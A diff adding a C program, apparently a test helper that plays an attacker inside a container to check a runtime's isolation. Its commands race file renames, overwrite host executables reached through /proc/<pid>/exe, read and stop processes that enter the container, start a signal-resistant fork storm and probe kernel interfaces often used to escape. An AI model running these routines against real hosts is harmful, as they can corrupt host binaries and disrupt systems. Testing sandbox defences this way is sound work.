@@ -1,0 +1,232 @@
+/*
+ * The attacker in the container. It is static, and says on standard output what it got.
+ */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/bpf.h>
+#include <linux/io_uring.h>
+#include <linux/keyctl.h>
+#include <linux/perf_event.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+enum { EXCHANGE = 2, XFRM = 6, NETFILTER = 12 };
+
+/* swap A B: for ever. */
+static int swap(char **arg)
+{
+	puts("swapping");
+	while (syscall(SYS_renameat2, AT_FDCWD, arg[0], AT_FDCWD, arg[1], EXCHANGE) == 0)
+		;
+	perror("renameat2");
+	return 1;
+}
+
+typedef void per_process(pid_t pid);
+
+static _Noreturn void each_process(per_process *f)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *e;
+
+	for (; d; rewinddir(d))
+		while ((e = readdir(d)))
+			if (atoi(e->d_name) > 0 && atoi(e->d_name) != getpid())
+				f(atoi(e->d_name));
+	_exit(1);
+}
+
+static struct stat known[2];
+
+static bool is_known(const struct stat *st)
+{
+	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
+		if (st->st_dev == known[i].st_dev && st->st_ino == known[i].st_ino)
+			return true;
+	return false;
+}
+
+/* A running program cannot be written to: it is held until it can. */
+static _Noreturn void overwrite_when_free(int fd)
+{
+	char path[64];
+	int to;
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	while ((to = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY)
+		usleep(1000);
+	if (to < 0)
+		printf("caught: %s\n", strerror(errno));
+	else
+		puts(write(to, "#!/owned\n", 9) == 9 ? "overwritten" : strerror(errno));
+	fflush(stdout);
+	_exit(0);
+}
+
+/* A program that is not of our root. */
+static void overwrite_one(pid_t pid)
+{
+	static bool seen[1 << 16];
+	char path[64];
+	struct stat st;
+	int fd;
+
+	if (seen[pid & 0xffff])
+		return;
+	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd >= 0 && fstat(fd, &st) == 0 && !is_known(&st)) {
+		seen[pid & 0xffff] = true;
+		puts("held");
+		if (fork() == 0)
+			overwrite_when_free(fd);
+	}
+	if (fd >= 0)
+		close(fd);
+}
+
+/* overwrite: the programs of the host that run in here. */
+static int overwrite(char **arg)
+{
+	(void)arg;
+	if (stat("/proc/self/exe", &known[0]) < 0 || stat("/bin/busybox", &known[1]) < 0)
+		return 1;
+	each_process(overwrite_one);
+}
+
+/* A descriptor below 3 is the same as ours, and one above was never for us. */
+static void spy_one(pid_t pid)
+{
+	char path[64], target[256];
+	ssize_t n;
+
+	for (int fd = 3; fd < 20; fd++) {
+		snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, fd);
+		n = readlink(path, target, sizeof(target) - 1);
+		if (n < 0)
+			continue;
+		target[n] = '\0';
+		/* Our own kind has /proc open, as we do. */
+		if (strcmp(target, "/proc") == 0)
+			continue;
+		printf("seen: %s -> %s\n", path, target);
+		fflush(stdout);
+	}
+}
+
+/* spy: descriptors of whoever comes in. */
+static int spy(char **arg)
+{
+	(void)arg;
+	each_process(spy_one);
+}
+
+static void stop_one(pid_t pid)
+{
+	if (pid > 1 && kill(pid, SIGSTOP) == 0)
+		kill(pid, SIGSTOP);
+}
+
+/* freeze: stops whoever comes in. */
+static int freeze(char **arg)
+{
+	(void)arg;
+	each_process(stop_one);
+}
+
+/* storm: some tens of processes that fork, stop themselves, and wait for children by vfork. */
+static int storm(char **arg)
+{
+	(void)arg;
+	signal(SIGTERM, SIG_IGN);
+	signal(SIGINT, SIG_IGN);
+	for (int i = 0; i < 8; i++)
+		if (fork() == 0)
+			for (;;) {
+				pid_t pid = fork();
+
+				if (pid == 0)
+					_exit(0);
+				waitpid(pid, NULL, 0);
+			}
+	for (int i = 0; i < 8; i++)
+		if (fork() == 0)
+			for (;;)
+				raise(SIGSTOP);
+	if (fork() == 0 && vfork() == 0)
+		for (;;)
+			pause();
+	puts("storming");
+	fflush(stdout);
+	for (;;)
+		if (waitpid(-1, NULL, 0) < 0)
+			pause();
+}
+
+/* The kernel's doors. A descriptor, or an error that comes from behind the door: it is open. */
+static void tell(const char *name, long r)
+{
+	bool shut = r < 0 && (errno == EPERM || errno == ENOSYS || errno == EACCES ||
+				     errno == EAFNOSUPPORT || errno == EPROTONOSUPPORT);
+
+	printf("%s %s %s\n", shut ? "shut" : "open", name, r < 0 ? strerror(errno) : "");
+}
+
+static int doors(char **arg)
+{
+	struct perf_event_attr perf = {.type = PERF_TYPE_SOFTWARE, .size = sizeof(perf),
+		.config = PERF_COUNT_SW_CPU_CLOCK};
+	struct io_uring_params ring = {0};
+	union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4,
+		.max_entries = 1};
+
+	(void)arg;
+	tell("AF_ALG", socket(AF_ALG, SOCK_SEQPACKET, 0));
+	tell("AF_VSOCK", socket(AF_VSOCK, SOCK_STREAM, 0));
+	tell("AF_PACKET", socket(AF_PACKET, SOCK_RAW, 0));
+	tell("xfrm", socket(AF_NETLINK, SOCK_RAW, XFRM));
+	tell("nfnetlink", socket(AF_NETLINK, SOCK_RAW, NETFILTER));
+	tell("io_uring", syscall(SYS_io_uring_setup, 4, &ring));
+	tell("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof(map)));
+	tell("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
+	tell("perf_event_open", syscall(SYS_perf_event_open, &perf, 0, -1, -1, 0));
+	tell("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1));
+	tell("add_key", syscall(SYS_add_key, "user", "x", "y", 1, KEY_SPEC_PROCESS_KEYRING));
+	tell("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
+	tell("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, NULL, 0));
+	tell("unshare-user", syscall(SYS_unshare, 0x10000000));
+	return 0;
+}
+
+static const struct {
+	const char *name;
+	int (*run)(char **arg);
+	int args;
+} attacks[] = {
+	{"swap", swap, 2},
+	{"overwrite", overwrite, 0},
+	{"spy", spy, 0},
+	{"freeze", freeze, 0},
+	{"storm", storm, 0},
+	{"doors", doors, 0},
+};
+
+int main(int argc, char **argv)
+{
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
+		if (strcmp(argv[1], attacks[i].name) == 0 && argc - 2 >= attacks[i].args)
+			return attacks[i].run(argv + 2);
+	fprintf(stderr, "inside: no such attack\n");
+	return 2;
+}
